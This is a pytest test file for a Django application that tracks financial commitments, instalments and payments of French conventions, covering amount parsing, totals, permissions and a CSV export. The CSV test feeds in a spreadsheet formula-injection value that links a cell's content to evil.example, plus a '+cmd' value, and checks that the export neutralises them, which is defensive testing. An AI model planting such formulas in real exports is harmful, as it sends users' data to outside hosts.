"""Money of a convention: the pure rules (French amounts, first in first out, totals), the
database's and the models' rules, the services, and the staff pages."""

import datetime
import doctest
from datetime import date
from decimal import Decimal

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.db import IntegrityError, transaction
from django.db.models import RestrictedError
from django.urls import reverse

import conventions.rules.money
from conventions import services
from conventions.models import FinancialCommitment, Instalment, Party, Payment, triggers
from conventions.rules.money import (
    NBSP,
    Totals,
    commitment_totals,
    coverage,
    decimal_fr,
    euros,
    parse_amount,
    totals_by_year,
)
from tests.factories import (
    AmendmentFactory,
    ConventionFactory,
    FinancialCommitmentFactory,
    InstalmentFactory,
    OrganisationFactory,
    PaymentFactory,
)
from tests.personas import assert_login_redirect, count_queries

D = Decimal


# --- The rules, pure ------------------------------------------------------------------


def test_doctests():
    result = doctest.testmod(conventions.rules.money)
    assert result.attempted and not result.failed


def test_euros_in_french_with_non_breaking_spaces():
    assert euros(D("30000")) == "30\u00a0000,00\u00a0€"
    assert NBSP == "\u00a0"
    assert euros(D("1234567.891")) == "1\u00a0234\u00a0567,89\u00a0€"
    assert euros(D("0.5")) == "0,50\u00a0€"
    assert euros(D("999")) == "999,00\u00a0€"
    assert euros(D("-1500")) == "-1\u00a0500,00\u00a0€"
    assert euros(None) == ""
    assert decimal_fr(D("30000")) == "30000,00"
    assert decimal_fr(D("0.1")) == "0,10"


@pytest.mark.parametrize(
    "typed, value",
    [
        ("12 500,00", "12500.00"),
        ("12500.00", "12500.00"),
        ("12500", "12500.00"),
        ("12\u00a0500,5", "12500.50"),
        ("12\u202f500,05 €", "12500.05"),
        ("  7,5  ", "7.50"),
        ("0,01", "0.01"),
    ],
)
def test_amounts_typed_in_french_or_plain(typed, value):
    assert parse_amount(typed) == D(value)


@pytest.mark.parametrize(
    "typed", ["12,5,0", "12.500,00", "12,505", "-12", "douze", "", "1e5", "12,", ",5", "€"]
)
def test_amounts_refused_say_what_to_type(typed):
    with pytest.raises(ValueError, match="par exemple 12 500,00"):
        parse_amount(typed)


def test_first_in_first_out():
    d = date
    instalments = [(d(2024, 6, 30), D(100)), (d(2024, 3, 31), D(100)), (d(2024, 9, 30), D(100))]
    nothing = coverage(instalments, [])
    assert [(c.covered, c.paid_on) for c in nothing] == [(0, None)] * 3
    # 150 on 1 April: the March instalment paid, half of June's.
    partly = coverage(instalments, [(d(2024, 4, 1), D(150))])
    assert [(c.covered, c.paid_on) for c in partly] == [
        (D(50), None),
        (D(100), d(2024, 4, 1)),
        (D(0), None),
    ]
    # Payments count in date order, whatever the order given; June is paid on the day the
    # cumulated payments reach 200.
    later = coverage(instalments, [(d(2024, 8, 1), D(60)), (d(2024, 4, 1), D(150))])
    assert [c.paid_on for c in later] == [d(2024, 8, 1), d(2024, 4, 1), None]
    assert [c.is_paid for c in later] == [True, True, False]
    # Overpaid: everything covered, nothing more.
    over = coverage(instalments, [(d(2024, 1, 1), D(1000))])
    assert [(c.covered, c.paid_on) for c in over] == [(D(100), d(2024, 1, 1))] * 3


def test_totals_of_a_commitment():
    once = commitment_totals(amount=D(300), period="once", instalments=[], payments=[D(100)])
    assert (once.committed, once.paid, once.remaining, once.known) == (D(300), 100, 200, True)
    scheduled = commitment_totals(
        amount=D(300), period="yearly", instalments=[D(300), D(300)], payments=[D(700)]
    )
    assert (scheduled.committed, scheduled.remaining, scheduled.overpaid) == (600, -100, True)
    yearly = commitment_totals(amount=D(300), period="yearly", instalments=[], payments=[D(300)])
    assert (yearly.known, yearly.per_year, yearly.paid) == (False, D(300), D(300))
    assert yearly.committed_label == f"300,00{NBSP}€ par an"  # no invented number of years
    school = commitment_totals(amount=D(50), period="school_year", instalments=[], payments=[])
    assert school.committed_label == f"50,00{NBSP}€ par année scolaire"
    total = once + yearly + school
    assert total.committed_label == (
        f"300,00{NBSP}€ + 300,00{NBSP}€ par an + 50,00{NBSP}€ par année scolaire"
    )
    assert (total.paid, total.remaining) == (D(400), D(200))
    assert Totals().committed_label == "—"


def test_totals_by_year():
    rows = totals_by_year(
        [(date(2024, 6, 30), D(100)), (date(2024, 12, 31), D(100)), (date(2026, 1, 1), D(5))],
        [(date(2025, 1, 2), D(200))],
    )
    assert [(r.year, r.due, r.paid) for r in rows] == [
        (2024, D(200), D(0)),
        (2025, D(0), D(200)),
        (2026, D(5), D(0)),
    ]
    assert totals_by_year([], []) == []


# --- The database and the models ------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("model", ["commitment", "instalment", "payment"])
@pytest.mark.parametrize("amount", [D("0"), D("-10")])
def test_the_database_refuses_amounts_not_above_zero(model, amount):
    factory = {
        "commitment": FinancialCommitmentFactory,
        "instalment": InstalmentFactory,
        "payment": PaymentFactory,
    }[model]
    row = factory()
    row.amount = amount
    with pytest.raises(IntegrityError), transaction.atomic():
        row.save()
    with pytest.raises(ValidationError) as error:
        row.full_clean()
    assert "Le montant doit être supérieur à zéro." in str(error.value)


@pytest.mark.django_db
def test_the_database_refuses_a_party_paying_itself():
    commitment = FinancialCommitmentFactory()
    commitment.payee = commitment.payer
    with pytest.raises(IntegrityError), transaction.atomic():
        commitment.save()


@pytest.mark.django_db
def test_payer_payee_and_avenant_belong_to_the_convention():
    commitment = FinancialCommitmentFactory()
    other = ConventionFactory(signed=True)
    commitment.payer = other.parties.first()
    commitment.amendment = AmendmentFactory(convention=other)
    with pytest.raises(ValidationError) as error:
        commitment.full_clean()
    assert error.value.message_dict == {
        "payer": ["Choisissez une partie de cette convention."],
        "amendment": ["Cet avenant n'est pas un avenant de cette convention."],
    }
    commitment.refresh_from_db()
    commitment.payee = commitment.payer
    with pytest.raises(ValidationError) as error:
        commitment.full_clean()
    assert "Le bénéficiaire doit être une autre partie que le payeur." in str(error.value)


@pytest.mark.django_db
def test_money_is_not_frozen_by_the_signature_and_has_a_history():
    """Money is recorded as it happens: a signed convention (whose text the database
    freezes) takes commitments, instalments and payments, and none of these tables has a
    freeze trigger."""
    convention = ConventionFactory(signed=True)
    commitment = FinancialCommitmentFactory(convention=convention, label="Avant")
    commitment.label = "Après"
    commitment.save()
    Instalment.objects.create(commitment=commitment, due_on=date(2011, 1, 1), amount=D(1))
    Payment.objects.create(commitment=commitment, paid_on=date(2011, 1, 1), amount=D(1))
    assert [h.label for h in commitment.history.order_by("history_date")] == ["Avant", "Après"]
    for statement in triggers._sqlite(triggers._columns(triggers.default_connection)) + (
        triggers._postgresql(triggers._columns(triggers.default_connection))
    ):
        for table in ("financialcommitment", "instalment", "payment"):
            assert f"conventions_{table}" not in statement


@pytest.mark.django_db
def test_an_avenant_or_a_party_with_money_is_not_deleted_alone_the_convention_is():
    draft = ConventionFactory()
    extra = services.party_add(convention=draft, organisation=OrganisationFactory(), mandate=None)
    commitment = FinancialCommitmentFactory(
        convention=draft, payer=draft.parties.first(), payee=extra
    )
    with pytest.raises(ValidationError, match="supprimez d'abord l'engagement financier"):
        services.party_remove(party=extra)
    assert Party.objects.filter(pk=extra.pk).exists()
    with pytest.raises(RestrictedError), transaction.atomic():
        extra.delete()
    signed = ConventionFactory(signed=True)
    amendment = AmendmentFactory(convention=signed)
    FinancialCommitmentFactory(convention=signed, amendment=amendment)
    with pytest.raises(RestrictedError), transaction.atomic():
        amendment.delete()
    # The whole convention goes, its money with it.
    draft.delete()
    assert not FinancialCommitment.objects.filter(pk=commitment.pk).exists()
    signed.delete()
    assert not FinancialCommitment.objects.exists()


@pytest.mark.django_db
def test_services_check_the_rules_and_refresh_the_schedule():
    convention = ConventionFactory(signed=True)
    first, last = convention.parties.order_by("position")
    with pytest.raises(ValidationError) as error:
        services.commitment_save(
            commitment=FinancialCommitment(
                convention=convention,
                payer=first,
                payee=first,
                label="Subvention",
                amount=D("0"),
                period="once",
            )
        )
    assert error.value.message_dict == {
        "payee": ["Le bénéficiaire doit être une autre partie que le payeur."],
        "amount": ["Le montant doit être supérieur à zéro."],
    }
    assert not FinancialCommitment.objects.exists()
    commitment = services.commitment_save(
        commitment=FinancialCommitment(
            convention=convention,
            payer=first,
            payee=last,
            label="Subvention",
            amount=D("1000"),
            period="once",
        )
    )
    with pytest.raises(ValidationError):
        services.instalment_add(commitment=commitment, due_on=date(2011, 1, 1), amount=D(0))
    with pytest.raises(ValidationError):
        services.payment_add(commitment=commitment, paid_on=date(2011, 1, 1), amount=D(-5))
    services.instalment_add(commitment=commitment, due_on=date(2011, 1, 1), amount=D(1000))
    assert convention.deadlines.filter(kind="instalment").count() == 1
    assert datetime.date(2011, 1, 1) in set(convention.deadlines.values_list("due_on", flat=True))


# --- The staff pages ------------------------------------------------------------------

TODAY = date(2025, 6, 2)


@pytest.fixture
def _today():
    moment = datetime.datetime(TODAY.year, TODAY.month, TODAY.day, 9, tzinfo=datetime.UTC)
    with time_machine.travel(moment, tick=False):
        yield


def _convention(**kwargs):
    return ConventionFactory(
        parties=[
            OrganisationFactory(academy=True),
            OrganisationFactory(name="Département des Bouches-du-Rhône", short_name="CD13"),
            OrganisationFactory(name="GIP FCIP", short_name=""),
        ],
        **kwargs,
    )


def _parties(convention):
    return list(convention.parties.order_by("position"))


def _commitment_data(convention, **overrides):
    _, departement, gip = _parties(convention)
    return {
        "payer": departement.pk,
        "payee": gip.pk,
        "label": "Contribution annuelle",
        "amount": "30 000,00",
        "period": "yearly",
        "imputation": "Chapitre 65",
        **overrides,
    }


def _add_url(convention):
    return reverse("conventions:commitment_add", args=[convention.reference])


@pytest.mark.django_db
@pytest.mark.parametrize("signed", [True, False], ids=["signed", "draft"])
def test_a_manager_adds_a_commitment_to_a_signed_convention_or_a_draft(manager_client, signed):
    convention = _convention(signed_on=date(2024, 1, 15) if signed else None)
    page = manager_client.get(convention.get_absolute_url()).content.decode()
    assert 'href="#financement"' in page  # in the page's summary
    assert 'id="financement"' in page and "Aucun engagement financier." in page
    assert f'href="{_add_url(convention)}"' in page
    response = manager_client.post(_add_url(convention), _commitment_data(convention))
    assert response.status_code == 302
    assert response["Location"] == f"{convention.get_absolute_url()}#financement"
    commitment = FinancialCommitment.objects.get()
    assert commitment.amount == D("30000.00")
    assert (commitment.payer.organisation.short_name, commitment.payee.organisation.name) == (
        "CD13",
        "GIP FCIP",
    )
    page = manager_client.get(convention.get_absolute_url()).content.decode()
    assert "Département des Bouches-du-Rhône → GIP FCIP : Contribution annuelle" in page
    assert f"30{NBSP}000,00{NBSP}€ par an" in page
    assert "Imputation : Chapitre 65" in page


@pytest.mark.django_db
@pytest.mark.parametrize(
    "typed, stored",
    [
        ("12 500,00", "12500.00"),
        ("12500.00", "12500.00"),
        ("12500", "12500.00"),
        ("12\u00a0500,5", "12500.50"),
        ("0,01", "0.01"),
    ],
)
def test_amounts_as_people_type_them(manager_client, typed, stored):
    convention = _convention()
    response = manager_client.post(_add_url(convention), _commitment_data(convention, amount=typed))
    assert response.status_code == 302
    assert FinancialCommitment.objects.get().amount == D(stored)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "typed, error",
    [
        ("12,5,0", "Saisissez un montant en euros, par exemple 12 500,00."),
        ("douze mille", "Saisissez un montant en euros, par exemple 12 500,00."),
        ("-5", "Saisissez un montant en euros, par exemple 12 500,00."),
        ("0", "Le montant doit être supérieur à zéro."),
        ("0,00", "Le montant doit être supérieur à zéro."),
        ("12345678901", "Le montant dépasse 9 999 999 999,99 €."),
        ("", "Ce champ est obligatoire."),
    ],
)
def test_a_bad_amount_is_refused_in_french_and_kept_as_typed(manager_client, typed, error):
    convention = _convention(signed=True)
    data = _commitment_data(convention, amount=typed, label="Gardé tel quel")
    response = manager_client.post(_add_url(convention), data)
    assert response.status_code == 200
    content = response.content.decode().replace(NBSP, " ")
    assert error in content
    assert f'value="{typed}"' in content.replace(NBSP, " ") or typed == ""
    assert 'value="Gardé tel quel"' in content
    assert not FinancialCommitment.objects.exists()


@pytest.mark.django_db
def test_payer_and_payee_are_two_parties_of_this_convention(manager_client):
    convention = _convention()
    _, departement, _ = _parties(convention)
    response = manager_client.post(
        _add_url(convention), _commitment_data(convention, payee=departement.pk)
    )
    assert response.status_code == 200
    assert "Le bénéficiaire doit être une autre partie que le payeur." in response.content.decode()
    stranger = ConventionFactory().parties.first()
    response = manager_client.post(
        _add_url(convention), _commitment_data(convention, payer=stranger.pk)
    )
    assert response.status_code == 200
    assert "Sélectionnez un choix valide" in response.content.decode()
    for value in ("abc", "", "999999"):
        response = manager_client.post(
            _add_url(convention), _commitment_data(convention, payer=value)
        )
        assert response.status_code == 200
    assert not FinancialCommitment.objects.exists()


@pytest.mark.django_db
def test_edit_names_the_avenant_that_made_it(manager_client):
    convention = _convention(signed=True)
    amendment = AmendmentFactory(convention=convention, number=1, title="Financement 2025")
    AmendmentFactory(convention=ConventionFactory(signed=True), number=1)  # another's
    commitment = FinancialCommitmentFactory(
        convention=convention, payer=_parties(convention)[1], payee=_parties(convention)[2]
    )
    url = reverse("conventions:commitment_edit", args=[convention.reference, commitment.pk])
    form = manager_client.get(url).content.decode()
    assert f'value="30{NBSP}000,00"' in form  # the stored amount, in French
    assert "Avenant N°1 — Financement 2025" in form
    response = manager_client.post(
        url,
        _commitment_data(
            convention, amendment=amendment.pk, amount="45 000", label="Subvention révisée"
        ),
    )
    assert response.status_code == 302
    commitment.refresh_from_db()
    assert (commitment.amount, commitment.amendment, commitment.label) == (
        D("45000"),
        amendment,
        "Subvention révisée",
    )
    page = manager_client.get(convention.get_absolute_url()).content.decode()
    assert "Prévu par l'avenant N°1" in page
    # Another convention's commitment is not found from this one.
    other = FinancialCommitmentFactory()
    url = reverse("conventions:commitment_edit", args=[convention.reference, other.pk])
    assert manager_client.get(url).status_code == 404


def _post(client, name, convention, *args, data=None):
    return client.post(reverse(f"conventions:{name}", args=[convention.reference, *args]), data)


@pytest.mark.django_db
def test_instalments_payments_and_totals_on_the_page(manager_client, _today):
    convention = _convention(signed_on=date(2024, 1, 15))
    _post(
        manager_client,
        "commitment_add",
        convention,
        data=_commitment_data(convention, amount="30000", period="once"),
    )
    commitment = FinancialCommitment.objects.get()
    pk = commitment.pk
    for due_on, amount in (("2024-03-31", "10 000"), ("2025-03-31", "20 000,00")):
        response = _post(
            manager_client,
            "instalment_add",
            convention,
            pk,
            data={"due_on": due_on, "amount": amount},
        )
        assert response.status_code == 302
    response = _post(
        manager_client,
        "payment_add",
        convention,
        pk,
        data={"paid_on": "2024-04-10", "amount": "15000", "reference": "Mandat 2024-77"},
    )
    assert response.status_code == 302
    response = manager_client.get(convention.get_absolute_url())
    content = response.content.decode().replace(NBSP, " ")
    assert "Soldée le 10 avril 2024" in content  # the first, covered by the payment
    assert "En retard" in content and "5 000,00 € versés" in content  # the second, in part
    assert "Mandat 2024-77" in content
    totals = response.context["money"].totals
    assert (totals.committed, totals.paid, totals.remaining) == (30000, 15000, 15000)
    assert '<dd data-testid="committed">30 000,00 €</dd>' in content
    assert '<dd data-testid="paid">15 000,00 €</dd>' in content
    assert '<dd data-testid="remaining">15 000,00 €</dd>' in content
    assert [(y.year, y.due, y.paid) for y in response.context["money"].by_year] == [
        (2024, 10000, 15000),
        (2025, 20000, 0),
    ]
    assert (
        '<td>2024</td><td class="app-nowrap">10 000,00 €</td>'
        '<td class="app-nowrap">15 000,00 €</td>' in content
    )
    # The échéancier follows.
    assert convention.deadlines.filter(kind="instalment").count() == 2
    assert convention.deadlines.get(kind="instalment", due_on=date(2024, 3, 31)).done_on == date(
        2024, 4, 10
    )


@pytest.mark.django_db
def test_a_schedule_that_differs_from_a_single_amount_is_pointed_out(reader_client):
    commitment = FinancialCommitmentFactory(amount=D(1000), period="once")
    InstalmentFactory(commitment=commitment, amount=D(600))
    page = reader_client.get(commitment.convention.get_absolute_url()).content.decode()
    assert (
        f"Les échéances totalisent 600,00{NBSP}€ pour un montant de 1{NBSP}000,00{NBSP}€"
    ) in page
    InstalmentFactory(commitment=commitment, amount=D(400), due_on=date(2012, 6, 30))
    page = reader_client.get(commitment.convention.get_absolute_url()).content.decode()
    assert "Les échéances totalisent" not in page


@pytest.mark.django_db
def test_bad_instalments_and_payments_are_refused_in_french(manager_client):
    convention = _convention(signed=True)
    commitment = FinancialCommitmentFactory(
        convention=convention, payer=_parties(convention)[1], payee=_parties(convention)[2]
    )
    for name, data in (
        ("instalment_add", {"due_on": "31/02/2024", "amount": "12,5,0"}),
        ("payment_add", {"paid_on": "", "amount": "0", "reference": "x" * 121}),
    ):
        response = _post(manager_client, name, convention, commitment.pk, data=data)
        assert response.status_code == 200
        content = response.content.decode().replace(NBSP, " ")
        assert "Saisissez une date valide" in content or "Ce champ est obligatoire." in content
        assert (
            "Saisissez un montant en euros, par exemple 12 500,00." in content
            or "Le montant doit être supérieur à zéro." in content
        )
    assert not Instalment.objects.exists() and not Payment.objects.exists()


@pytest.mark.django_db
def test_deletes_ask_then_delete(manager_client):
    convention = _convention(signed=True)
    commitment = FinancialCommitmentFactory(
        convention=convention, payer=_parties(convention)[1], payee=_parties(convention)[2]
    )
    instalment = InstalmentFactory(commitment=commitment)
    payment = PaymentFactory(commitment=commitment)
    for name, args, model in (
        ("payment_delete", (commitment.pk, payment.pk), Payment),
        ("instalment_delete", (commitment.pk, instalment.pk), Instalment),
        ("commitment_delete", (commitment.pk,), FinancialCommitment),
    ):
        url = reverse(f"conventions:{name}", args=[convention.reference, *args])
        page = manager_client.get(url)
        assert page.status_code == 200 and "Supprimer" in page.content.decode()
        assert model.objects.exists()
        assert manager_client.post(url).status_code == 302
        assert not model.objects.exists()
    # Another commitment's instalment is not found through this one.
    other = InstalmentFactory()
    url = reverse(
        "conventions:instalment_delete", args=[convention.reference, commitment.pk, other.pk]
    )
    assert manager_client.post(url).status_code == 404


@pytest.mark.django_db
def test_a_reader_sees_the_money_and_may_change_nothing(client, lecteur, partner):
    convention = _convention(signed=True)
    commitment = FinancialCommitmentFactory(
        convention=convention, payer=_parties(convention)[1], payee=_parties(convention)[2]
    )
    instalment = InstalmentFactory(commitment=commitment)
    payment = PaymentFactory(commitment=commitment)
    client.force_login(lecteur)
    page = client.get(convention.get_absolute_url()).content.decode()
    assert "Subvention de fonctionnement" in page
    for label in ("Ajouter un engagement financier", "Enregistrer un versement", "Modifier"):
        assert label not in page
    urls = [
        reverse("conventions:commitment_add", args=[convention.reference]),
        reverse("conventions:commitment_edit", args=[convention.reference, commitment.pk]),
        reverse("conventions:commitment_delete", args=[convention.reference, commitment.pk]),
        reverse("conventions:instalment_add", args=[convention.reference, commitment.pk]),
        reverse(
            "conventions:instalment_delete",
            args=[convention.reference, commitment.pk, instalment.pk],
        ),
        reverse("conventions:payment_add", args=[convention.reference, commitment.pk]),
        reverse(
            "conventions:payment_delete", args=[convention.reference, commitment.pk, payment.pk]
        ),
    ]
    for user in (lecteur, partner):
        client.force_login(user)
        for url in urls:
            assert client.get(url).status_code == 403, url
            assert client.post(url, {"amount": "1"}).status_code == 403, url
    assert Payment.objects.exists() and Instalment.objects.exists()
    assert FinancialCommitment.objects.count() == 1


def _money(convention, commitments):
    parties = _parties(convention)
    for n in range(commitments):
        commitment = FinancialCommitmentFactory(
            convention=convention, payer=parties[1 + n % 2], payee=parties[2 - n % 2]
        )
        for k in range(3):
            InstalmentFactory(commitment=commitment, due_on=date(2024 + k, 6, 30))
            PaymentFactory(commitment=commitment, paid_on=date(2024 + k, 7, 1))


@pytest.mark.django_db
def test_the_convention_page_reads_money_in_three_queries_whatever_its_amount(manager_client):
    bare, some, rich = (_convention(signed=True) for _ in range(3))
    _money(some, 1)
    _money(rich, 5)
    manager_client.get(bare.get_absolute_url())
    _, without = count_queries(manager_client, bare.get_absolute_url())
    _, with_little = count_queries(manager_client, some.get_absolute_url())
    response, with_money = count_queries(manager_client, rich.get_absolute_url())
    # None without money; commitments, instalments and payments with some, however many.
    assert with_money == with_little == without + 3
    assert response.content.decode().count('data-testid="instalment"') == 15


# --- The partner's page ---------------------------------------------------------------


@pytest.mark.django_db
def test_the_partner_page_totals_what_it_pays_and_receives(reader_client, _today):
    first, second = _convention(signed=True), _convention(signed=True)
    academy, departement, gip = _parties(first)
    pays = FinancialCommitmentFactory(
        convention=first, payer=departement, payee=gip, amount=D(20000), period="once"
    )
    InstalmentFactory(commitment=pays, due_on=date(2024, 6, 30), amount=D(12000))
    InstalmentFactory(commitment=pays, due_on=date(2025, 6, 30), amount=D(8000))
    PaymentFactory(commitment=pays, paid_on=date(2024, 7, 2), amount=D(12000))
    _, departement2, gip2 = _parties(second)
    FinancialCommitmentFactory(  # receives, from the académie of the second convention
        convention=second,
        payer=second.parties.get(organisation__is_academy=True),
        payee=departement2,
        label="Dotation",
        amount=D(5000),
        period="yearly",
    )
    PaymentFactory(
        commitment=FinancialCommitment.objects.get(label="Dotation"),
        paid_on=date(2025, 1, 15),
        amount=D(5000),
    )
    FinancialCommitmentFactory(  # not the département's: not on its page
        convention=second,
        payer=gip2,
        payee=second.parties.get(organisation__is_academy=True),
        label="Loyer du GIP",
    )
    url = reverse("partners:detail", args=[departement.organisation.pk])
    response = reader_client.get(url)
    content = response.content.decode().replace(NBSP, " ")
    money = response.context["organisation_money"]
    assert (money["pays"].committed, money["pays"].paid, money["pays"].remaining) == (
        20000,
        12000,
        8000,
    )
    assert (money["receives"].known, money["receives"].per_year, money["receives"].paid) == (
        False,
        5000,
        5000,
    )
    assert "CD13 verse</th><td>20 000,00 €</td>" in content
    assert "CD13 reçoit</th><td>5 000,00 € par an</td>" in content
    assert [
        (r["year"], r["pays"].due, r["pays"].paid, r["receives"].due, r["receives"].paid)
        for r in money["by_year"]
    ] == [(2024, 12000, 12000, 0, 0), (2025, 8000, 0, 0, 5000)]
    assert content.count('data-testid="commitment"') == 2
    assert "Loyer du GIP" not in content
    assert f'href="{first.get_absolute_url()}#engagement-{pays.pk}"' in content


@pytest.mark.django_db
def test_the_partner_page_costs_the_same_with_or_without_money(reader_client):
    bare, rich = _convention(signed=True), _convention(signed=True)
    bare_url = reverse("partners:detail", args=[_parties(bare)[1].organisation.pk])
    rich_url = reverse("partners:detail", args=[_parties(rich)[1].organisation.pk])
    _money(rich, 4)
    reader_client.get(bare_url)
    _, without = count_queries(reader_client, bare_url)
    response, with_money = count_queries(reader_client, rich_url)
    assert without == with_money
    assert response.content.decode().count('data-testid="commitment"') == 4


# --- The CSV --------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_csv_lists_each_instalment_or_commitment_without_schedule(reader_client, _today):
    convention = _convention(signed=True, reference="GIP-2024")
    _, departement, gip = _parties(convention)
    scheduled = FinancialCommitmentFactory(
        convention=convention,
        payer=departement,
        payee=gip,
        label='=HYPERLINK("http://evil.example/?"&A1;"clic")',
        amount=D("20000"),
        period="once",
        imputation="+cmd",
    )
    InstalmentFactory(commitment=scheduled, due_on=date(2024, 6, 30), amount=D("12000.5"))
    InstalmentFactory(commitment=scheduled, due_on=date(2025, 6, 30), amount=D("7999.5"))
    PaymentFactory(commitment=scheduled, paid_on=date(2024, 7, 2), amount=D("15000"))
    FinancialCommitmentFactory(
        convention=convention,
        payer=gip,
        payee=departement,
        label="Loyer",
        amount=D("1200.4"),
        period="school_year",
        imputation="",
    )
    response = reader_client.get(reverse("conventions:money_export"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="financements-2025-06-02.csv"' in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0] == (
        "Convention;Payeur;Bénéficiaire;Objet;Périodicité;Imputation;Échéance;Montant (€);"
        "Soldée le;Montant versé (€)"
    )
    label = '"\'=HYPERLINK(""http://evil.example/?""&A1;""clic"")"'
    cd13 = "Département des Bouches-du-Rhône"  # the parties' names, in full
    assert lines[1:] == [
        f"GIP-2024;{cd13};GIP FCIP;{label};Une fois;'+cmd;30 juin 2024;12000,50;2 juillet 2024;"
        "12000,50",
        f"GIP-2024;{cd13};GIP FCIP;{label};Une fois;'+cmd;30 juin 2025;7999,50;;2999,50",
        f"GIP-2024;GIP FCIP;{cd13};Loyer;Par année scolaire;;;1200,40;;0,00",
    ]


@pytest.mark.django_db
def test_the_csv_is_for_staff(partner_client, client):
    url = reverse("conventions:money_export")
    assert partner_client.get(url).status_code == 403
    client.logout()
    assert_login_redirect(client.get(url))


@pytest.mark.django_db
def test_a_commitment_paid_once_without_schedule_is_paid_when_the_payments_reach_it(
    reader_client,
):
    commitment = FinancialCommitmentFactory(amount=D(100), period="once")
    PaymentFactory(commitment=commitment, paid_on=date(2024, 1, 1), amount=D(60))
    PaymentFactory(commitment=commitment, paid_on=date(2024, 2, 1), amount=D(40))
    text = b"".join(reader_client.get("/conventions/financements.csv").streaming_content)
    assert ";100,00;1er février 2024;100,00" in text.decode()


@pytest.mark.django_db
def test_the_history_lists_money(reader_client, manager_client):
    convention = _convention(signed=True)
    response = manager_client.post(_add_url(convention), _commitment_data(convention))
    commitment = FinancialCommitment.objects.get()
    _post(
        manager_client,
        "payment_add",
        convention,
        commitment.pk,
        data={"paid_on": "2024-04-10", "amount": "1 500"},
    )
    assert response.status_code == 302
    response = reader_client.get(reverse("conventions:history", args=[convention.reference]))
    subjects = [entry.subject.replace(NBSP, " ") for entry in response.context["entries"]]
    assert "versement de 1 500,00 € du 10 avril 2024" in subjects
    assert "engagement financier « Contribution annuelle »" in subjects
